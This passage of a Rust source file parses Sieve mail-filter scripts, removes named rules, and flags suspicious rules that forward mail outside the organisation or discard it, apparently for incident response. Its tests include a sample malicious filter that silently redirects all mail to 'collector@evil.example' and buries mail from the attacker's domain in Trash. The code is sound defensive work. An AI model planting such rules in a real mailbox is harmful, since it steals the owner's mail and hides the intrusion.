                    value = args.get(i).filter(|a| !matches!(a, Arg::Tag(_)));
                    if value.is_some() {
                        i += 1;
                    }
                }
                tags.push((tag.as_str(), value));
            }
            Arg::Num(n) => positional.push(vec![n.clone()]),
            Arg::Strings(v) => positional.push(v.clone()),
        }
    }
    (tags, positional)
}

fn first_string(arg: Option<&Arg>) -> Option<&str> {
    match arg {
        Some(Arg::Strings(v)) => v.first().map(String::as_str),
        Some(Arg::Num(n)) => Some(n),
        _ => None,
    }
}

fn condition_of(t: &Test, negated: bool) -> Condition {
    let (tags, positional) = split_args(&t.args);
    let mut match_type = "is".to_string();
    let mut address_part = None;
    for (tag, value) in &tags {
        if MATCH_TYPES.contains(tag) || *tag == "over" || *tag == "under" {
            match_type = match first_string(*value) {
                Some(operator) => format!("{tag} {}", operator.to_lowercase()),
                None => tag.to_string(),
            };
        } else if ADDRESS_PARTS.contains(tag) {
            address_part = Some(tag.to_string());
        }
    }
    let names = positional.first().cloned().unwrap_or_default();
    let keys = || positional.get(1..).unwrap_or_default().concat();
    let header = (!names.is_empty()).then(|| names.join(", "));
    let (kind, header, address_part, values) = match t.name.as_str() {
        "header" => (header_kind(&names, ConditionKind::Header), header, None, keys()),
        "address" => {
            (header_kind(&names, ConditionKind::Header), header, address_part.or(Some("all".into())), keys())
        }
        "envelope" => (
            header_kind(&names, ConditionKind::Envelope),
            header,
            address_part.or(Some("all".into())),
            keys(),
        ),
        "exists" => (ConditionKind::Exists, header, None, Vec::new()),
        "size" => (ConditionKind::Size, None, None, positional.concat()),
        "true" => (ConditionKind::True, None, None, Vec::new()),
        _ => (ConditionKind::Other, None, address_part, positional.concat()),
    };
    Condition { kind, header, match_type, address_part, values, negated }
}

fn header_kind(names: &[String], otherwise: ConditionKind) -> ConditionKind {
    let has = |wanted: &[&str]| names.iter().any(|n| wanted.iter().any(|w| n.trim().eq_ignore_ascii_case(w)));
    if has(&["from", "sender"]) {
        ConditionKind::From
    } else if has(&["to", "cc", "bcc"]) {
        ConditionKind::To
    } else if has(&["subject"]) {
        ConditionKind::Subject
    } else {
        otherwise
    }
}

fn action_of(c: &Command) -> RuleAction {
    let kind = match c.lname.as_str() {
        "redirect" => ActionKind::Redirect,
        "fileinto" => ActionKind::Fileinto,
        "discard" => ActionKind::Discard,
        "keep" => ActionKind::Keep,
        "stop" => ActionKind::Stop,
        "reject" | "ereject" => ActionKind::Reject,
        "addflag" | "setflag" | "removeflag" => ActionKind::Flag,
        "vacation" => ActionKind::Vacation,
        _ => ActionKind::Other,
    };
    let (tags, positional) = split_args(&c.args);
    let first = || positional.first().and_then(|v| v.first()).cloned();
    let argument = match kind {
        ActionKind::Discard | ActionKind::Keep | ActionKind::Stop => None,
        // The reason comes last, after the optional tags' arguments.
        ActionKind::Vacation => positional.last().and_then(|v| v.first()).cloned(),
        // `addflag "variable" "flags"` (imap4flags): the flags are the last argument.
        ActionKind::Flag => positional.last().map(|v| v.join(" ")),
        _ => first(),
    };
    RuleAction { kind, name: c.name.clone(), argument, copy: tags.iter().any(|(t, _)| *t == "copy") }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ROUNDCUBE: &str = "require [\"fileinto\",\"copy\"];\n\
# rule:[Forward everything]\n\
if true\n\
{\n\
\tredirect :copy \"collector@evil.example\";\n\
}\n\
# rule:[Hide alerts]\n\
if header :contains \"from\" \"evil.example\"\n\
{\n\
\tfileinto \"Trash\";\n\
\tstop;\n\
}\n\
# rule:[Keep news]\n\
if header :is \"list-id\" \"news.example.org\"\n\
{\n\
\tkeep;\n\
}\n";

    fn names(text: &str) -> Vec<String> {
        parse(text).unwrap().rules.into_iter().map(|r| r.name).collect()
    }

    fn own() -> Vec<String> {
        vec!["corp.example".to_string()]
    }

    #[test]
    fn roundcube_script() {
        let script = parse(ROUNDCUBE).unwrap();
        assert_eq!(names(ROUNDCUBE), ["Forward everything", "Hide alerts", "Keep news"]);
        let [forward, hide, keep] = &script.rules[..] else { panic!("three rules") };

        assert!(forward.enabled);
        assert!(!forward.any_of);
        assert_eq!(forward.conditions.len(), 1);
        assert_eq!(forward.conditions[0].kind, ConditionKind::True);
        assert_eq!(
            forward.actions,
            [RuleAction {
                kind: ActionKind::Redirect,
                name: "redirect".into(),
                argument: Some("collector@evil.example".into()),
                copy: true,
            }]
        );
        assert!(ROUNDCUBE[forward.span.clone()].starts_with("# rule:[Forward everything]\nif true"));
        assert!(ROUNDCUBE[forward.span.clone()].ends_with("}\n"));

        assert_eq!(
            hide.conditions,
            [Condition {
                kind: ConditionKind::From,
                header: Some("from".into()),
                match_type: "contains".into(),
                address_part: None,
                values: vec!["evil.example".into()],
                negated: false,
            }]
        );
        let kinds: Vec<_> = hide.actions.iter().map(|a| a.kind).collect();
        assert_eq!(kinds, [ActionKind::Fileinto, ActionKind::Stop]);
        assert_eq!(hide.actions[0].argument.as_deref(), Some("Trash"));
        assert_eq!(keep.conditions[0].kind, ConditionKind::Header);
        assert_eq!(keep.actions[0].kind, ActionKind::Keep);
        assert_eq!(keep.span.end, ROUNDCUBE.len());
        assert_eq!(forward.span.end, hide.span.start);
        assert_eq!(hide.span.end, keep.span.start);
        assert!(serde_json::to_string(&script).unwrap().contains("\"kind\":\"FILEINTO\""));
    }

    #[test]
    fn disabled_rule() {
        let text =
            "require [\"fileinto\"];\n# rule:[Off]\nif false # anyof (header :contains \"subject\" \"x\", \
                    address :domain \"from\" \"y.example\")\n{\n\tdiscard;\n}\n";
        let rule = &parse(text).unwrap().rules[0];
        assert_eq!(rule.name, "Off");
        assert!(!rule.enabled);
        assert!(rule.any_of);
        assert_eq!(rule.conditions.len(), 2);
        assert_eq!(rule.conditions[0].kind, ConditionKind::Subject);
        assert_eq!(rule.conditions[1].kind, ConditionKind::From);
        assert_eq!(rule.conditions[1].address_part.as_deref(), Some("domain"));

        // Without a commented-out test, still disabled; prose in the comment is not a test.
        let rule = &parse("if false # switched off for now\n{ discard; }").unwrap().rules[0];
        assert!(!rule.enabled);
        assert_eq!(rule.conditions[0].kind, ConditionKind::Other);
        assert_eq!(suspicious(rule, &own(), &|_| true), None);
    }

    #[test]
    fn bare_top_level_action() {
        let script = parse("redirect \"x@y.example\";").unwrap();
        let rule = &script.rules[0];
        assert_eq!(rule.name, "rule 1");
        assert!(rule.conditions.is_empty());
        assert_eq!(rule.actions[0].kind, ActionKind::Redirect);
        assert_eq!(rule.actions[0].argument.as_deref(), Some("x@y.example"));
        assert!(!rule.actions[0].copy);
        assert_eq!(rule.span, 0..23);
    }

    #[test]
    fn comments_and_multiline_strings() {
        let text = "/* a block\n comment */ # a line comment\r\n\
                    vacation :days 3 :subject \"Away\" :addresses [\"a@corp.example\", \"b@corp.example\"] text: # c\r\n\
                    I am away.\r\n\
                    ..dot line\r\n\
                    .\r\n\
                    ;\r\n\
                    IF HEADER :MATCHES \"Subject\" \"*\" { Fileinto :flags \"\\\\Seen\" :create \"Rss\"; }\r\n";
        let script = parse(text).unwrap();
        let vacation = &script.rules[0].actions[0];
        assert_eq!(vacation.kind, ActionKind::Vacation);
        assert_eq!(vacation.argument.as_deref(), Some("I am away.\r\n.dot line\r\n"));
        let rule = &script.rules[1];
        assert_eq!(rule.name, "rule 2");
        assert_eq!(rule.conditions[0].kind, ConditionKind::Subject);
        assert_eq!(rule.conditions[0].match_type, "matches");
        assert_eq!(rule.actions[0].name, "Fileinto");
        assert_eq!(rule.actions[0].argument.as_deref(), Some("Rss"));
        assert!(text[rule.span.clone()].ends_with("}\r\n"));
    }

    #[test]
    fn escapes() {
        let folder = r#"a\b"c"#;
        assert_eq!(quote(folder), r#""a\\b\"c""#);
        let text = format!("fileinto {};\nfileinto \"\\q\";", quote(folder));
        let script = parse(&text).unwrap();
        assert_eq!(script.rules[0].actions[0].argument.as_deref(), Some(folder));
        assert_eq!(script.rules[1].actions[0].argument.as_deref(), Some("q"));
    }

    #[test]
    fn anyof_with_not() {
        let text = "if anyof (not header :contains \"subject\" \"x\", not not address :domain :comparator \
                    \"i;ascii-casemap\" \"from\" \"evil.example\", size :over 100K) { discard; }";
        let rule = &parse(text).unwrap().rules[0];
        assert!(rule.any_of);
        let c = &rule.conditions;
        assert_eq!(c.len(), 3);
        assert!(c[0].negated);
        assert_eq!(c[0].kind, ConditionKind::Subject);
        assert!(!c[1].negated);
        assert_eq!((c[1].kind, c[1].address_part.as_deref()), (ConditionKind::From, Some("domain")));
        assert_eq!(c[1].values, ["evil.example"]);
        assert_eq!(
            (c[2].kind, c[2].match_type.as_str(), &c[2].values[..]),
            (ConditionKind::Size, "over", &["100K".to_string()][..])
        );
        assert_eq!(sender_values(rule), ["evil.example"]);
    }

    #[test]
    fn elsif_chain_is_one_rule() {
        let text = "if header :is \"to\" \"a\" { fileinto \"A\"; } elsif exists \"x-spam\" { if true { discard; } } \
                    else { keep; }\nstop;";
        let script = parse(text).unwrap();
        assert_eq!(script.rules.len(), 2);
        let kinds: Vec<_> = script.rules[0].conditions.iter().map(|c| c.kind).collect();
        assert_eq!(kinds, [ConditionKind::To, ConditionKind::Exists, ConditionKind::True]);
        let kinds: Vec<_> = script.rules[0].actions.iter().map(|a| a.kind).collect();
        assert_eq!(kinds, [ActionKind::Fileinto, ActionKind::Discard, ActionKind::Keep]);
        assert_eq!(script.rules[1].name, "rule 2");
    }

    #[test]
    fn remove_first_middle_last() {
        let all = ["Forward everything", "Hide alerts", "Keep news"];
        let original = parse(ROUNDCUBE).unwrap();
        for (i, name) in all.iter().enumerate() {
            let out = remove_rule(ROUNDCUBE, name).unwrap();
            assert!(out.starts_with("require [\"fileinto\",\"copy\"];\n"), "{out}");
            let left: Vec<_> = all.iter().filter(|n| *n != name).map(|n| n.to_string()).collect();
            assert_eq!(names(&out), left);
            for (j, other) in original.rules.iter().enumerate() {
                if j != i {
                    assert!(out.contains(&ROUNDCUBE[other.span.clone()]));
                }
            }
            assert_eq!(remove_rule(&out, name), None);
        }
        // Case-insensitive when unique; unknown names are None.
        assert_eq!(
            names(&remove_rule(ROUNDCUBE, "hide ALERTS").unwrap()),
            ["Forward everything", "Keep news"]
        );
        assert_eq!(remove_rule(ROUNDCUBE, "nope"), None);
        assert_eq!(remove_rule("if {", "rule 1"), None);
        let all_gone =
            remove_rule(&remove_rule(&remove_rule(ROUNDCUBE, all[0]).unwrap(), all[1]).unwrap(), all[2]);
        assert_eq!(all_gone.as_deref(), Some("require [\"fileinto\",\"copy\"];\n"));
    }

    #[test]
    fn unnamed_rules_keep_their_names_across_removal() {
        let text =
            "require \"fileinto\";\nkeep;\nif header :is \"x\" \"y\" { discard; }\n  fileinto \"Z\";\n";
        assert_eq!(names(text), ["rule 1", "rule 2", "rule 3"]);
        let out = remove_rule(text, "rule 2").unwrap();
        assert_eq!(names(&out), ["rule 1", "rule 3"]);
        assert!(out.contains("  fileinto \"Z\";\n"));
        assert_eq!(remove_rule(&out, "rule 2"), None);
        let out = remove_rule(&out, "rule 1").unwrap();
        assert_eq!(out, "require \"fileinto\";\n# rule:[rule 3]\n  fileinto \"Z\";\n");
        // Duplicate names all go, so the second removal finds nothing.
        let dup = "# rule:[a]\nkeep;\n# rule:[a]\ndiscard;\n# rule:[b]\nstop;\n";
        let out = remove_rule(dup, "a").unwrap();
        assert_eq!(out, "# rule:[b]\nstop;\n");
        assert_eq!(remove_rule(&out, "a"), None);
    }

    #[test]
    fn names_and_unicode_spans() {
        let text = "# just a note\n# rule:[Überweisung ✓]\n# more notes\nif true { keep; }\n# rule:[x]\nrequire \"y\";\nstop;";
        let script = parse(text).unwrap();
        assert_eq!(script.rules[0].name, "Überweisung ✓");
        assert!(text[script.rules[0].span.clone()].starts_with("# rule:[Überweisung ✓]"));
        // A name comment above a `require` belongs to no rule.
        assert_eq!(script.rules[1].name, "rule 2");
        assert_eq!(&text[script.rules[1].span.clone()], "stop;");
    }

    #[test]
    fn errors_say_where() {
        let cases = [
            ("if header :is \"x\" \"y", "1:19:"),
            ("if true {\n  keep;\n", "1:9:"),
            ("keep;\n/* open", "2:1:"),
            ("vacation text:\nhello\n", "1:10:"),
            ("if true { keep; }}", "1:18:"),
            ("keep", "1:5:"),
            ("if anyof (true, { }", "1:17:"),
            ("fileinto [\"a\" \"b\"];", "1:15:"),
            ("else { keep; }", "1:1:"),
            ("redirect \"é\" @;", "1:14:"),
        ];
        for (text, at) in cases {
            let e = parse(text).unwrap_err();
            assert!(e.starts_with(at), "{text:?}: {e}");
        }
        let big = "#".repeat(MAX_SCRIPT_BYTES + 1);
        assert!(parse(&big).unwrap_err().contains("limit"));
    }

    #[test]
    fn deep_nesting_refused() {
        let deep = |n: usize| format!("{}keep;{}", "if true {".repeat(n), "}".repeat(n));
        assert!(parse(&deep(10)).is_ok());
        assert!(parse(&deep(MAX_DEPTH + 5)).unwrap_err().contains("deep"));
        let nots = format!("if {}true {{ keep; }}", "not ".repeat(10_000));
        assert!(parse(&nots).unwrap_err().contains("deep"));
        let lists = format!("if {}true{} {{ keep; }}", "anyof(".repeat(100), ")".repeat(100));
        assert!(parse(&lists).unwrap_err().contains("deep"));
    }

    #[test]
    fn suspicious_reasons() {
        let script = parse(ROUNDCUBE).unwrap();
        let evil = |v: &str| v.contains("evil.example");
        assert_eq!(
            suspicious(&script.rules[0], &own(), &evil).as_deref(),
            Some("forwards mail to collector@evil.example, outside the organisation")
        );
        assert_eq!(
            suspicious(&script.rules[1], &own(), &evil).as_deref(),
            Some("files mail from evil.example away into Trash, a sender in an incident")
        );
        assert_eq!(suspicious(&script.rules[1], &own(), &|_| false), None);
        assert_eq!(suspicious(&script.rules[2], &own(), &|_| true), None);

        let rule = |text: &str| parse(text).unwrap().rules.remove(0);
        let discard = rule("if address :is \"From\" \"Boss@Evil.Example\" { discard; }");
        assert_eq!(sender_values(&discard), ["boss@evil.example"]);
        assert_eq!(
            suspicious(&discard, &own(), &|v| v == "boss@evil.example").as_deref(),
            Some("discards mail from boss@evil.example, a sender in an incident")
        );
        let negated = rule("if not address :is \"from\" \"boss@evil.example\" { discard; }");
        assert!(sender_values(&negated).is_empty());
        assert_eq!(suspicious(&negated, &own(), &|_| true), None);

        assert_eq!(suspicious(&rule("discard;"), &own(), &|_| false).as_deref(), Some("discards all mail"));
        assert_eq!(
            suspicious(&rule("if true { fileinto \"INBOX.Deleted Items\"; }"), &own(), &|_| false).as_deref(),
            Some("discards all mail")
        );
        assert_eq!(suspicious(&rule("if true { fileinto :copy \"Trash\"; }"), &own(), &|_| false), None);

        let both = rule("if true { redirect \"a@out.example\"; redirect \"A@out.example\"; discard; }");
        assert_eq!(
            suspicious(&both, &own(), &|_| false).as_deref(),
            Some("forwards mail to a@out.example, outside the organisation; discards all mail")
        );
    }

    #[test]
    fn own_domains_and_subdomains_not_suspicious() {
        let rule = |text: &str| parse(text).unwrap().rules.remove(0);
        let own = vec!["Corp.Example".to_string()];
        for address in ["x@corp.example", "x@mail.CORP.example", "x@corp.example.", "localuser"] {
            let r = rule(&format!("redirect {};", quote(address)));
            assert_eq!(suspicious(&r, &own, &|_| true), None, "{address}");
        }
        for address in ["x@notcorp.example", "x@corp.example.evil", "Name <x@out.example>"] {
            let r = rule(&format!("redirect {};", quote(address)));
            assert!(suspicious(&r, &own, &|_| false).is_some(), "{address}");
        }
    }

    #[test]
    fn large_script_is_linear() {
        let one = "# rule:[r]\nif header :contains \"from\" \"x@y.example\" { fileinto \"Trash\"; }\n";
        let first = one.replace("[r]", "[first]");
        let n = MAX_SCRIPT_BYTES / one.len() - 1;
        let text = format!("require \"fileinto\";\n{first}{}", one.repeat(n - 1));
        let start = std::time::Instant::now();
        assert_eq!(parse(&text).unwrap().rules.len(), n);
        let out = remove_rule(&text, "first").unwrap();
        assert_eq!(out.len(), text.len() - first.len());
        assert!(start.elapsed() < std::time::Duration::from_secs(10));
    }

    #[test]
    fn no_prefix_panics() {
        let sample = format!(
            "{ROUNDCUBE}# rule:[Ünïcode ✓]\nif false # anyof (not header :contains [\"subject\",\"x\"] \"a\\\"b\")\n\
             {{ vacation :days 7 text:\r\nhi é\r\n..x\r\n.\r\n; /* c */ addflag \"\\\\Seen\"; }}\n"
        );
        assert_eq!(parse(&sample).unwrap().rules.len(), 4);
        for (i, _) in sample.char_indices() {
            let prefix = &sample[..i];
            if let Ok(script) = parse(prefix) {
                for r in &script.rules {
                    assert!(prefix.is_char_boundary(r.span.start) && prefix.is_char_boundary(r.span.end));
                    let _ = suspicious(r, &own(), &|_| true);
                }
                if let Some(first) = script.rules.first() {
                    assert!(parse(&remove_rule(prefix, &first.name).unwrap()).is_ok());
                }
            }
        }
    }
}
